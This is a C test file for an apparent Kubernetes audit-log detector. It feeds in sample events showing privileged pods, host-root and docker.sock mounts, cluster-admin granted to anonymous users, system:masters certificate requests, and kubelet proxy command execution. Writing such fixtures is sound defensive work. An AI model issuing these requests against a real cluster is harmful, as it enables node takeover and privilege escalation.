/* The detector catalogue: privileged_workload, rbac_escalation,
 * anonymous_access, credential_minting, node_proxy, control_plane_tampering,
 * persistence_workload, exposed_service, discovery, public_source,
 * new_user_agent and the secret-burst correlation; on hand-written events,
 * on the peers' own test events (Falco trace files, Panther test logs) and
 * on the places where kag deliberately differs from a peer. Panther's EKS
 * test records, each judged on its own, are a golden case
 * (tests/golden/expected/records-panther-eks.out): any change in what kag
 * says of one of them shows there, whole. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <jansson.h>

#include "detector-private.h"
#include "testutil.h"

/* Events are written with ' for " so they stay readable; dq() swaps. */
static char *dq(const char *s)
{
	size_t n = strlen(s), i;
	char *o = malloc(n + 1);

	ck_assert_ptr_nonnull(o);
	for (i = 0; i <= n; i++)
		o[i] = s[i] == '\'' ? '"' : s[i];
	return o;
}

static tu_ctx T;
static int T_live;

static void teardown(void)
{
	if (T_live)
		tu_free(&T);
	T_live = 0;
}

static void fresh(kag_registry *reg)
{
	if (T_live)
		tu_free(&T);
	if (reg)
		tu_init_registry(&T, reg);
	else
		tu_init(&T);
	T_live = 1;
}

/* Judge one event (or several, newline separated) in a fresh session. */
static void judge(const char *events)
{
	char *json = dq(events);

	fresh(NULL);
	tu_judge(&T, json, (size_t)-1);
	free(json);
	ck_assert_msg(T.n_errors == 0, "parse error: %s", T.n_errors ? T.errors[0] : "");
}

/* More events in the same session. */
static void judge_more(const char *events)
{
	char *json = dq(events);

	tu_judge(&T, json, (size_t)-1);
	free(json);
	ck_assert_msg(T.n_errors == 0, "parse error: %s", T.n_errors ? T.errors[0] : "");
}

static void judge_file(const char *relpath)
{
	fresh(NULL);
	tu_judge_file(&T, relpath);
	ck_assert_msg(T.n_errors == 0, "parse error: %s", T.n_errors ? T.errors[0] : "");
}

static void expect(const char *line, const char *path, const char *want)
{
	const char *got;

	ck_assert_msg(line != NULL, "no verdict to read %s from", path);
	got = tu_json_get(line, path);
	ck_assert_msg(got && strcmp(got, want) == 0, "%s: got %s, want %s\nin %s", path,
		      got ? got : "(absent)", want, line);
}

static void expect_has(const char *line, const char *path, const char *value)
{
	ck_assert_msg(line != NULL, "no verdict");
	ck_assert_msg(tu_json_array_has(line, path, value), "%s lacks %s\nin %s", path, value, line);
}

static void expect_reason(const char *line, const char *text)
{
	const char *r;

	ck_assert_msg(line != NULL, "no verdict");
	r = tu_json_get(line, "reason");
	ck_assert_msg(r && strstr(r, text), "reason lacks '%s': %s", text, r ? r : "(none)");
}

/* The one verdict of detector `id`, asserting there is exactly one. */
static const char *only(const char *id)
{
	ck_assert_msg(tu_count(&T, id) == 1, "%zu %s verdicts, want 1:\n%s", tu_count(&T, id), id,
		      T.out ? T.out : "");
	return tu_find(&T, id, 0);
}

static void none(const char *id)
{
	ck_assert_msg(tu_count(&T, id) == 0, "%zu %s verdicts, want none:\n%s", tu_count(&T, id),
		      id, T.out ? T.out : "");
}

/* A flagged (suspicious) verdict of `id` with this severity. */
static const char *flagged(const char *id, const char *severity)
{
	const char *v = only(id);

	expect(v, "assessment", "suspicious");
	expect(v, "severity", severity);
	return v;
}

#define OK201 "'responseStatus':{'code':201},'stage':'ResponseComplete'"
#define OK200 "'responseStatus':{'code':200},'stage':'ResponseComplete'"

/* ---- every detector documents itself (kag-triage --list-detectors) ---- */

START_TEST(catalogue_ids_and_docs)
{
	static const char *const ids[] = {
		"privileged_workload", "rbac_escalation", "anonymous_access",
		"credential_minting", "node_proxy", "control_plane_tampering",
		"persistence_workload", "exposed_service", "discovery", "public_source",
		"new_user_agent", "secrets_access", "rbac_probing", "interactive_access",
		"impersonation", "controller_baseline", "configmap_credentials", "known_bad_source",
		"destructive_delete", "hygiene", NULL
	};
	static const char *const parts[] = { "finds: ", "\ndecisive fields: ", "\nlevel: ",
					     "\nATT&CK: ", "\nfalse positives: ", "\npeer rules: ",
					     NULL };
	kag_registry *r;
	size_t i, j, at;

	ck_assert_int_eq(kag_registry_new(&r), KAG_OK);
	for (i = 0; ids[i]; i++) {
		const kag__detector_def *d;
		const char *doc;
		char level[64];

		ck_assert_msg(kag_registry_find(&at, r, ids[i]) == KAG_OK, "%s missing", ids[i]);
		ck_assert(kag_registry_detector_enabled(r, at));
		doc = kag_registry_detector_doc(r, at);
		for (j = 0; parts[j]; j++)
			ck_assert_msg(strstr(doc, parts[j]), "%s doc lacks %s", ids[i], parts[j]);
		/* the lines written from the definition say what it states */
		d = &r->entries[at].def;
		snprintf(level, sizeof(level), "\nlevel: %s", kag_level_name(d->min_level));
		ck_assert_msg(strstr(doc, level), "%s doc lacks %s", ids[i], level);
		for (j = 0; d->attack && d->attack[j].id; j++)
			ck_assert_msg(strstr(strstr(doc, "\nATT&CK: "), d->attack[j].id),
				      "%s doc lacks %s", ids[i], d->attack[j].id);
	}
	ck_assert_uint_eq(kag_registry_count(r), i);
	kag_registry_free(r);
}
END_TEST

/* ---- privileged_workload ---- */

START_TEST(privileged_falco_traces)
{
	const char *v;

	judge_file("falco-k8s-audit/create_nginx_pod_privileged.json");
	/* created by the replicaset-controller for its owner: one step lower */
	v = flagged("privileged_workload", "medium");
	expect_has(v, "evidence.podSecurity.privileged", "nginx");
	expect(v, "evidence.podSecurity.owner.kind", "ReplicaSet");
	expect(v, "evidence.podSecurity.specPath", "spec");
	expect_has(v, "attack", "T1611");
	expect_reason(v, "kube-system service account, for its owner");

	judge_file("falco-k8s-audit/create_nginx_pod_privileged_2nd_container.json");
	flagged("privileged_workload", "medium");
	judge_file("falco-k8s-audit/"
		   "create_nginx_pod_no_secctx_1st_container_privileged_2nd_container.json");
	flagged("privileged_workload", "medium");

	judge_file("falco-k8s-audit/create_nginx_pod_sensitive_mount.json");
	v = flagged("privileged_workload", "medium");
	expect_has(v, "evidence.podSecurity.hostPaths", "/etc");
	judge_file("falco-k8s-audit/create_nginx_pod_sensitive_mount_2nd_container.json");
	flagged("privileged_workload", "medium");

	judge_file("falco-k8s-audit/create_nginx_pod_hostnetwork.json");
	v = flagged("privileged_workload", "low");
	expect(v, "evidence.podSecurity.hostNetwork", "true");

	judge_file("falco-k8s-audit/create_nginx_pod_unprivileged.json");
	none("privileged_workload");
	judge_file("falco-k8s-audit/create_nginx_pod_nohostnetwork.json");
	none("privileged_workload");
	judge_file("falco-k8s-audit/create_nginx_pod_unsensitive_mount.json");
	none("privileged_workload");
}
END_TEST

START_TEST(privileged_templates_and_container_kinds)
{
	const char *v;

	/* Deployment: an init container with SYS_ADMIN (CAP_ prefix, any case) */
	judge("{'verb':'create','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'deployments','namespace':'prod','name':'web','apiGroup':'apps'}," OK201 ","
	      "'requestObject':{'kind':'Deployment','spec':{'template':{'spec':{'containers':"
	      "[{'name':'app'}],'initContainers':[{'name':'setup','securityContext':"
	      "{'capabilities':{'add':['cap_sys_admin','NET_BIND_SERVICE']}}}]}}}}}");
	v = flagged("privileged_workload", "high");
	expect(v, "evidence.podSecurity.specPath", "spec.template.spec");
	expect_has(v, "evidence.podSecurity.capabilities", "cap_sys_admin");
	expect(v, "evidence.podSecurity.capabilities", "[\"cap_sys_admin\"]");

	/* CronJob: hostPID deep in the job template */
	judge("{'verb':'create','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'cronjobs','namespace':'prod','name':'nightly'}," OK201 ","
	      "'requestObject':{'spec':{'schedule':'* * * * *','jobTemplate':{'spec':{'template':"
	      "{'spec':{'hostPID':true,'containers':[{'name':'c'}]}}}}}}}");
	v = flagged("privileged_workload", "high");
	expect(v, "evidence.podSecurity.specPath", "spec.jobTemplate.spec.template.spec");
	expect(v, "evidence.podSecurity.hostPID", "true");

	/* StatefulSet: a privileged container and a / mount: node takeover */
	judge("{'verb':'update','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'statefulsets','namespace':'prod','name':'db'}," OK200 ",'requestObject':{'spec':"
	      "{'template':{'spec':{'containers':[{'name':'db','securityContext':{'privileged':"
	      "true}}],'volumes':[{'name':'root','hostPath':{'path':'/'}}]}}}}}");
	v = flagged("privileged_workload", "critical");
	expect_has(v, "evidence.podSecurity.hostPaths", "/");

	/* the same spec under a key that is not a pod spec is not judged */
	judge("{'verb':'create','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'deployments','namespace':'prod','name':'web'}," OK201 ",'requestObject':"
	      "{'metadata':{'annotations':{'spec':'privileged'}},'spec':{'selector':{'spec':"
	      "{'hostPID':true}},'template':{'spec':{'containers':[{'name':'c'}]}}}}}");
	none("privileged_workload");

	/* allowPrivilegeEscalation alone is low */
	judge("{'verb':'create','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'pods','namespace':'prod','name':'p'}," OK201 ",'requestObject':{'spec':"
	      "{'containers':[{'name':'c','securityContext':{'allowPrivilegeEscalation':true}}]}}}");
	v = flagged("privileged_workload", "low");
	expect_has(v, "evidence.podSecurity.allowPrivilegeEscalation", "c");

	/* kubectl debug: a privileged ephemeral container */
	judge("{'verb':'patch','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'pods','subresource':'ephemeralcontainers','namespace':'prod','name':'p'}," OK200
	      ",'requestObject':{'spec':{'ephemeralContainers':[{'name':'debugger',"
	      "'securityContext':{'privileged':true}}]}}}");
	v = flagged("privileged_workload", "high");
	expect_has(v, "evidence.podSecurity.privileged", "debugger");
	only("interactive_access");
}
END_TEST

START_TEST(privileged_host_paths)
{
	static const struct { const char *path; int sensitive; } cases[] = {
		{ "/var", 1 },                      /* ancestor of /var/run */
		{ "/var/run/docker.sock", 1 },
		{ "/etc/kubernetes/manifests", 1 }, /* under /etc */
		{ "/var/lib/kubelet/", 1 },         /* trailing slash */
		{ "/var/lib/cni", 0 },
		{ "/mnt/data", 0 },
		{ "/opt", 0 },
		{ "relative/etc", 0 },
	};
	char ev[1024];
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		snprintf(ev, sizeof(ev),
			 "{'verb':'create','user':{'username':'dev@example.com'},'objectRef':"
			 "{'resource':'pods','namespace':'prod','name':'p'}," OK201 ","
			 "'requestObject':{'spec':{'containers':[{'name':'c'}],'volumes':[{'name':"
			 "'v','hostPath':{'path':'%s'}}]}}}", cases[i].path);
		judge(ev);
		ck_assert_msg(tu_count(&T, "privileged_workload") == (size_t)cases[i].sensitive,
			      "%s", cases[i].path);
	}
}
END_TEST

/* Keys spelled with \u escapes mean the same to the API server: a body that
 * skips parsing because no key name appears in its bytes must not miss them. */
START_TEST(privileged_escaped_keys)
{
	judge("{'verb':'create','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'pods','namespace':'prod','name':'p'}," OK201 ",'requestObject':{'kind':'Pod',"
	      "'spec':{'containers':[{'name':'c','securityContext':{'\\u0070rivileged':true}}]}}}");
	flagged("privileged_workload", "high");
	judge("{'verb':'create','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'pods','namespace':'prod','name':'p'}," OK201 ",'requestObject':{'kind':'Pod',"
	      "'spec':{'hostP\\u0049D':true,'containers':[{'name':'c'}]}}}");
	flagged("privileged_workload", "high");
	/* and a body without any of the keys is judged clean */
	judge("{'verb':'create','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'pods','namespace':'prod','name':'p'}," OK201 ",'requestObject':{'kind':'Pod',"
	      "'spec':{'containers':[{'name':'c','image':'nginx'}]}}}");
	none("privileged_workload");
}
END_TEST

START_TEST(privileged_patches)
{
	const char *v;

	/* JSON Patch: a securityContext added to an existing container */
	judge("{'verb':'patch','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'daemonsets','namespace':'prod','name':'agent'}," OK200 ",'requestObject':"
	      "[{'op':'test','path':'/spec','value':{}},{'op':'add','path':"
	      "'/spec/template/spec/containers/0/securityContext','value':{'privileged':true}}]}");
	v = flagged("privileged_workload", "high");
	expect_has(v, "evidence.podSecurity.privileged", "(patched)");
	expect(v, "evidence.podSecurity.specPath", "json-patch");

	/* JSON Patch: a leaf replaced, and a whole container appended */
	judge("{'verb':'patch','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'deployments','namespace':'prod','name':'web'}," OK200 ",'requestObject':"
	      "[{'op':'replace','path':'/spec/template/spec/hostNetwork','value':true},"
	      "{'op':'add','path':'/spec/template/spec/containers/-','value':{'name':'side',"
	      "'securityContext':{'capabilities':{'add':['NET_ADMIN']}}}}]}");
	v = flagged("privileged_workload", "medium");
	expect(v, "evidence.podSecurity.hostNetwork", "true");
	expect_has(v, "evidence.podSecurity.capabilities", "NET_ADMIN");

	/* JSON Patch that removes or turns privilege off */
	judge("{'verb':'patch','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'deployments','namespace':'prod','name':'web'}," OK200 ",'requestObject':"
	      "[{'op':'remove','path':'/spec/template/spec/hostNetwork'},{'op':'replace','path':"
	      "'/spec/template/spec/containers/0/securityContext/privileged','value':false}]}");
	none("privileged_workload");

	/* merge patch: a docker socket mount */
	judge("{'verb':'patch','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'deployments','namespace':'prod','name':'web'}," OK200 ",'requestObject':"
	      "{'spec':{'template':{'spec':{'volumes':[{'name':'s','hostPath':{'path':"
	      "'/var/run/docker.sock'}}]}}}}}");
	v = flagged("privileged_workload", "high");
	expect_has(v, "evidence.podSecurity.hostPaths", "/var/run/docker.sock");

	/* a merge patch that leaves the pod spec alone says nothing */
	judge("{'verb':'patch','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'deployments','namespace':'prod','name':'web'}," OK200 ",'requestObject':"
	      "{'spec':{'template':{'metadata':{'annotations':{'restartedAt':'now'}}}}}}");
	none("privileged_workload");
}
END_TEST

START_TEST(privileged_needs_body)
{
	const char *v;

	judge("{'verb':'create','level':'Metadata','user':{'username':'dev@example.com'},"
	      "'objectRef':{'resource':'pods','namespace':'prod','name':'p'}," OK201 "}");
	v = only("privileged_workload");
	expect(v, "assessment", "needs_context");
	expect(v, "severity", "low");
	expect_reason(v, "carries no request body");
	expect_has(v, "missing", "requestObject");

	/* platform identities in system namespaces: no verdict at all */
	judge("{'verb':'create','level':'Metadata','user':{'username':"
	      "'system:serviceaccount:kube-system:daemon-set-controller','groups':"
	      "['system:serviceaccounts:kube-system']},'objectRef':{'resource':'pods',"
	      "'namespace':'kube-system','name':'p'}," OK201 "}");
	none("privileged_workload");

	/* a pod's security settings cannot change after creation */
	judge("{'verb':'update','level':'Metadata','user':{'username':'dev@example.com'},"
	      "'objectRef':{'resource':'pods','namespace':'prod','name':'p'}," OK200 "}");
	none("privileged_workload");

	/* a denied create is not a workload */
	judge("{'verb':'create','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'pods','namespace':'prod'},'responseStatus':{'code':403},'stage':'ResponseComplete',"
	      "'requestObject':{'spec':{'hostPID':true}}}");
	none("privileged_workload");
}
END_TEST

/* ---- rbac_escalation ---- */

START_TEST(rbac_falco_traces)
{
	const char *v;

	judge_file("falco-k8s-audit/attach_cluster_admin_role.json");
	v = flagged("rbac_escalation", "high");
	expect(v, "evidence.rbac.roleRef", "cluster-admin");
	expect_has(v, "evidence.rbac.subjects", "User/minikube");
	expect_has(v, "attack", "T1098.006");

	judge_file("falco-k8s-audit/create_cluster_role_wildcard_verbs.json");
	v = flagged("rbac_escalation", "high");
	expect_has(v, "evidence.rbac.grants", "verbs:*");
	judge_file("falco-k8s-audit/create_cluster_role_wildcard_resources.json");
	v = flagged("rbac_escalation", "high");
	expect_has(v, "evidence.rbac.grants", "resources:*");
	judge_file("falco-k8s-audit/create_cluster_role_pod_exec.json");
	v = flagged("rbac_escalation", "high");
	expect_has(v, "evidence.rbac.grants", "pods/exec");
	judge_file("falco-k8s-audit/create_cluster_role_write_privileges.json");
	v = flagged("rbac_escalation", "low");
	expect_has(v, "evidence.rbac.grants", "write:nonResourceURLs");

	judge_file("falco-k8s-audit/delete_cluster_role_kube_aggregator.json");
	v = flagged("rbac_escalation", "high");
	expect(v, "evidence.rbac.systemObject", "true");
	expect_has(v, "attack", "T1531");
	judge_file("falco-k8s-audit/modify_cluster_role_node_problem_detector.json");
	v = flagged("rbac_escalation", "high");
	expect_reason(v, "a platform RBAC object");

	/* plain reader roles and bindings, deletes of ordinary roles */
	judge_file("falco-k8s-audit/create_clusterrole.json");
	none("rbac_escalation");
	judge_file("falco-k8s-audit/create_clusterrolebinding.json");
	none("rbac_escalation");
	judge_file("falco-k8s-audit/delete_clusterrole.json");
	none("rbac_escalation");
}
END_TEST

START_TEST(rbac_roles)
{
	const char *v;


	/* JSON Patch adding escalate to a rule */
	judge("{'verb':'patch','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'roles','namespace':'prod','name':'r'}," OK200 ",'requestObject':[{'op':'add',"
	      "'path':'/rules/0/verbs/-','value':'escalate'}]}");
	v = flagged("rbac_escalation", "medium");
	expect_has(v, "evidence.rbac.grants", "escalate");

	/* at Metadata level the rules are not in the record */
	judge("{'verb':'create','level':'Metadata','user':{'username':'dev@example.com'},"
	      "'objectRef':{'resource':'clusterroles','name':'r'}," OK201 "}");
	v = only("rbac_escalation");
	expect(v, "assessment", "needs_context");
	expect_reason(v, "the rules the role grants");
	expect_has(v, "missing", "requestObject");
}
END_TEST

START_TEST(rbac_system_roles)
{
	/* eks: roles are platform roles too */
	judge("{'verb':'delete','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'clusterroles','name':'eks:node-manager'}," OK200 "}");
	flagged("rbac_escalation", "high");
}
END_TEST

START_TEST(rbac_bindings)
{
	const char *v;

	/* a viewer role bound to everyone who is unauthenticated */
	judge("{'verb':'create','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'clusterrolebindings','name':'b'}," OK201 ",'requestObject':{'roleRef':{'kind':"
	      "'ClusterRole','name':'view'},'subjects':[{'kind':'Group','name':"
	      "'system:unauthenticated'}]}}");
	v = flagged("rbac_escalation", "high");
	expect_has(v, "attack", "T1078.001");
	/* cluster-admin to anonymous */
	judge("{'verb':'create','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'clusterrolebindings','name':'b'}," OK201 ",'requestObject':{'roleRef':{'kind':"
	      "'ClusterRole','name':'cluster-admin'},'subjects':[{'kind':'User','name':"
	      "'system:anonymous'}]}}");
	flagged("rbac_escalation", "critical");
	/* admin to a default service account, in a namespace */
	judge("{'verb':'create','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'rolebindings','namespace':'prod','name':'b'}," OK201 ",'requestObject':{'roleRef':"
	      "{'kind':'ClusterRole','name':'admin'},'subjects':[{'kind':'ServiceAccount','name':"
	      "'default','namespace':'prod'}]}}");
	v = flagged("rbac_escalation", "high");
	expect_has(v, "evidence.rbac.subjects", "ServiceAccount/prod/default");

	/* a subject added by JSON Patch; the roleRef comes from the response */
	judge("{'verb':'patch','level':'RequestResponse','user':{'username':'dev@example.com'},"
	      "'objectRef':{'resource':'clusterrolebindings','name':'b'}," OK200 ","
	      "'requestObject':[{'op':'add','path':'/subjects/-','value':{'kind':'User','name':"
	      "'eve'}}],'responseObject':{'roleRef':{'name':'cluster-admin'},'subjects':"
	      "[{'kind':'User','name':'eve'}]}}");
	v = flagged("rbac_escalation", "high");
	expect(v, "evidence.rbac.roleRef", "cluster-admin");
	/* ... and without the response, the role is unknown */
	judge("{'verb':'patch','level':'Request','user':{'username':'dev@example.com'},"
	      "'objectRef':{'resource':'clusterrolebindings','name':'b'}," OK200 ","
	      "'requestObject':[{'op':'add','path':'/subjects/-','value':{'kind':'User','name':"
	      "'eve'}}]}");
	v = only("rbac_escalation");
	expect(v, "assessment", "needs_context");
	expect_has(v, "missing", "responseObject");
}
END_TEST

/* ---- anonymous_access ---- */

START_TEST(anonymous)
{
	static const char *const health[] = { "/healthz", "/livez/ping", "/readyz?verbose",
					      "/version/", "/healthz/poststarthook/x", NULL };
	char ev[512];
	const char *v;
	size_t i;

	judge_file("falco-k8s-audit/anonymous_creates_namespace_foo.json");
	v = flagged("anonymous_access", "critical");
	expect(v, "evidence.anonymousWrite", "true");

	for (i = 0; health[i]; i++) {
		snprintf(ev, sizeof(ev), "{'verb':'get','requestURI':'%s','user':{'username':"
			 "'system:anonymous','groups':['system:unauthenticated']}," OK200 "}",
			 health[i]);
		judge(ev);
		none("anonymous_access");
	}
	judge("{'verb':'get','requestURI':'/versions','user':{'username':'system:anonymous'},"
	      OK200 "}");
	flagged("anonymous_access", "medium");
	/* a member of system:unauthenticated reading a resource */
	judge("{'verb':'list','requestURI':'/api/v1/secrets','user':{'username':'x','groups':"
	      "['system:unauthenticated']},'objectRef':{'resource':'secrets'}," OK200 "}");
	flagged("anonymous_access", "high");
}
END_TEST

/* ---- credential_minting ---- */

#define CSR_MASTERS                                                                        \
	"LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIbE1JR05BZ0VBTUNzeEZ6QVZCZ05WQkFv" \
	"TURuTjVjM1JsYlRwdFlYTjBaWEp6TVJBd0RnWURWUVFEREFkdApZV3hzYjNKNU1Ga3dFd1lIS29aSXpqMENB" \
	"UVlJS29aSXpqMERBUWNEUWdBRWpRTnlCOUlMRFdtSm9KSlhjeEZlClcxU2hqd2owUmlQSzdZOTdSMitSUlJ0" \
	"aDVnYWtnKzlKTjI0YkwzYmF4MlIvR09RRGo3dzJpYUZxNVF4eDJUYVUKRzZBQU1Bb0dDQ3FHU000OUJBTUNB" \
	"MGNBTUVRQ0h4eUhyTGh4U2VIT1JtdExqdlJxNHZLcEUxcVllVDJMMFJoTAo0L0UyTUlzQ0lRRDVHTTRkOElZ" \
	"bVVZZUVGeFFIV1Zoa1docVYyWUtpVDJvMzVScGhjQ2N1UEE9PQotLS0tLUVORCBDRVJUSUZJQ0FURSBSRVFV" \
	"RVNULS0tLS0K"
#define CSR_ALICE                                                                          \
	"LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIYU1JR0FBZ0VBTUI0eEREQUtCZ05WQkFv" \
	"TUEyUmxkakVPTUF3R0ExVUVBd3dGWVd4cFkyVXdXVEFUQmdjcQpoa2pPUFFJQkJnZ3Foa2pPUFFNQkJ3TkNB" \
	"QVJ4a01WekZ2TFpOejBQTEZxa0M5Mkw0ZVRGaGZxM1NiV3NZVjhlCjNmUzlTSHVWNmNURFVlWUtTMHdIUWhZ" \
	"MW5LTzU3ZjJDWVF2M1RpOEdiZHJzeTZHMW9BQXdDZ1lJS29aSXpqMEUKQXdJRFNRQXdSZ0loQUt5aStCMkVW" \
	"TzNDMGRIZ2hvdGp1UmdJbFI5V0FiRzZNMzUvcjlDUGl0NjNBaUVBaGVHdApFdjVLSFVvaU01MmlJeUJoeDlL" \
	"RnhXaGZjUTd3K2k4VWZHL1VMNk09Ci0tLS0tRU5EIENFUlRJRklDQVRFIFJFUVVFU1QtLS0tLQo="
/* O=system:nodes, CN=system:node:worker-1: a kubelet's own request */
#define CSR_NODE                                                                           \
	"LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIeE1JR1lBZ0VBTURZeEZUQVRCZ05WQkFv" \
	"TURITjVjM1JsYlRwdWIyUmxjekVkTUJzR0ExVUVBd3dVYzNsegpkR1Z0T201dlpHVTZkMjl5YTJWeUxURXdX" \
	"VEFUQmdjcWhrak9QUUlCQmdncWhrak9QUU1CQndOQ0FBUys5SVRJCmFhSURCR3ZEV0ptT3pLQVdiazdQemdj" \
	"TXlCUHRyVE9lbkdVRU42MzlUWGNrYmVLblV3c1ZLYkNyTmtlWG5wK0UKb1hZZFdPcHczSFRRSGVFNm9BQXdD" \
	"Z1lJS29aSXpqMEVBd0lEU0FBd1JRSWdaazBCbnp1MVJWSVJJTnpmK3FNOQpZUE95NVdyMHY1dEhsU1EvTjdr" \
	"bW5sb0NJUUNxNHoyalhpUlFtZVV3ZVhCblFzeGF1ekVHYnlYclpQQWlYeWZLCjJkUElUUT09Ci0tLS0tRU5E" \
	"IENFUlRJRklDQVRFIFJFUVVFU1QtLS0tLQo="

#define CSR_CREATE(user, name, signer, request)                                           \
	"{'verb':'create','stageTimestamp':'2024-05-01T10:00:00Z','user':{'username':'" user  \
	"'},'objectRef':{'resource':'certificatesigningrequests','name':'" name "'}," OK201    \
	",'requestObject':{'spec':{'signerName':'" signer "','usages':['client auth'],"       \
	"'request':'" request "'}}}\n"

START_TEST(credentials_tokens)
{
	const char *v;

	/* the TokenRequest body: expiry and the bound object */
	judge("{'verb':'create','user':{'username':'ci@example.com'},'objectRef':{'resource':"
	      "'serviceaccounts','subresource':'token','namespace':'prod','name':'deployer'},"
	      OK201 ",'requestObject':{'spec':{'expirationSeconds':31536000}}}");
	v = flagged("credential_minting", "medium");
	expect(v, "evidence.credential.expirationSeconds", "31536000");
	expect(v, "evidence.credential.boundObject", "null");
}
END_TEST

START_TEST(credentials_csrs)
{
	const char *v;


	judge(CSR_CREATE("mallory@example.com", "m1", "kubernetes.io/kube-apiserver-client",
			 CSR_MASTERS));
	v = flagged("credential_minting", "critical");
	expect(v, "evidence.credential.privilegedSubject", "system:masters");
	judge(CSR_CREATE("alice@example.com", "a1", "kubernetes.io/kube-apiserver-client",
			 CSR_ALICE));
	v = flagged("credential_minting", "high");
	expect(v, "evidence.credential.privilegedSubject", "null");
	/* a kubelet client request by a bootstrap identity: the node join flow */
	judge(CSR_CREATE("kubelet-bootstrap", "n1", "kubernetes.io/kube-apiserver-client-kubelet",
			 CSR_NODE));
	none("credential_minting");
	judge(CSR_CREATE("system:bootstrap:abcdef", "n2", "kubernetes.io/kube-apiserver-client",
			 CSR_NODE));
	none("credential_minting");
	/* without the body: reported, with less confidence (one step for
	 * the body, one for the sourceIPs) */
	judge("{'verb':'create','level':'Metadata','user':{'username':'eve@example.com'},"
	      "'objectRef':{'resource':'certificatesigningrequests','name':'e1'}," OK201 "}");
	v = flagged("credential_minting", "medium");
	expect(v, "confidence", "low");
	expect_has(v, "missing", "requestObject");
}
END_TEST

START_TEST(credentials_approvals)
{
	const char *v;

	/* self-approval remembered from the create in the same session */
	judge(CSR_CREATE("mallory@example.com", "m2", "kubernetes.io/kube-apiserver-client",
			 CSR_ALICE)
	      "{'verb':'update','level':'Metadata','user':{'username':'mallory@example.com'},"
	      "'objectRef':{'resource':'certificatesigningrequests','subresource':'approval',"
	      "'name':'m2'}," OK200 "}");
	ck_assert_uint_eq(tu_count(&T, "credential_minting"), 2);
	v = tu_find(&T, "credential_minting", 1);
	expect(v, "severity", "critical");
	expect(v, "evidence.credential.selfApproved", "true");
	expect_reason(v, "self-approval");

	/* self-approval read from the approval body's spec.username */
	judge("{'verb':'update','user':{'username':'eve@example.com'},'objectRef':{'resource':"
	      "'certificatesigningrequests','subresource':'approval','name':'x'}," OK200 ","
	      "'requestObject':{'spec':{'username':'eve@example.com','signerName':"
	      "'kubernetes.io/kube-apiserver-client'},'status':{'conditions':[{'type':"
	      "'Approved'}]}}}");
	v = flagged("credential_minting", "critical");
	expect(v, "evidence.credential.selfApproved", "true");

	/* someone else's request approved */
	judge("{'verb':'update','user':{'username':'admin@example.com'},'objectRef':{'resource':"
	      "'certificatesigningrequests','subresource':'approval','name':'x'}," OK200 ","
	      "'requestObject':{'spec':{'username':'eve@example.com'},'status':{'conditions':"
	      "[{'type':'Approved'}]}}}");
	v = flagged("credential_minting", "high");
	expect(v, "evidence.credential.selfApproved", "false");
	/* a denial issues nothing; the csrapprover is the platform */
	judge("{'verb':'update','user':{'username':'admin@example.com'},'objectRef':{'resource':"
	      "'certificatesigningrequests','subresource':'approval','name':'x'}," OK200 ","
	      "'requestObject':{'spec':{'username':'eve@example.com'},'status':{'conditions':"
	      "[{'type':'Denied'}]}}}");
	none("credential_minting");
	judge("{'verb':'update','user':{'username':'system:kube-controller-manager'},"
	      "'objectRef':{'resource':'certificatesigningrequests','subresource':'approval',"
	      "'name':'x'}," OK200 "}");
	none("credential_minting");
}
END_TEST

/* ---- node_proxy ---- */

#define NODE_PROXY(user, uri)                                                               \
	"{'verb':'create','requestURI':'" uri "','user':{'username':'" user "'},'objectRef':" \
	"{'resource':'nodes','subresource':'proxy','name':'worker-1'}," OK200 "}"

START_TEST(node_proxy)
{
	const char *v;

	judge(NODE_PROXY("dev@example.com", "/api/v1/nodes/worker-1/proxy/run/prod/web/c?cmd=id"));
	v = flagged("node_proxy", "high");
	expect(v, "evidence.kubeletPath", "/run/prod/web/c");
	expect_has(v, "attack", "T1609");
	judge(NODE_PROXY("dev@example.com", "/api/v1/nodes/worker-1/proxy/pods"));
	flagged("node_proxy", "medium");
	judge(NODE_PROXY("dev@example.com", "/api/v1/nodes/worker-1/proxy/metrics/cadvisor"));
	flagged("node_proxy", "low");
	judge(NODE_PROXY("system:kube-controller-manager",
			 "/api/v1/nodes/worker-1/proxy/metrics/cadvisor"));
	none("node_proxy");
	judge(NODE_PROXY("system:kube-controller-manager", "/api/v1/nodes/worker-1/proxy/exec/a/b/c"));
	flagged("node_proxy", "high");
	judge("{'verb':'get','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'nodes','subresource':'proxy','name':'worker-1'},'responseStatus':{'code':403},"
	      "'stage':'ResponseComplete'}");
	none("node_proxy");
}
END_TEST

/* ---- control_plane_tampering ---- */

START_TEST(tampering)
{
	const char *v;


	judge("{'verb':'delete','user':{'username':'dev@example.com'},'objectRef':{'resource':"
	      "'validatingwebhookconfigurations','name':'gatekeeper'}," OK200 "}");
	v = flagged("control_plane_tampering", "medium");
	expect_has(v, "attack", "T1562");
	judge("{'verb':'deletecollection','user':{'username':'dev@example.com'},'objectRef':"
	      "{'resource':'events','namespace':'prod'}," OK200 "}");
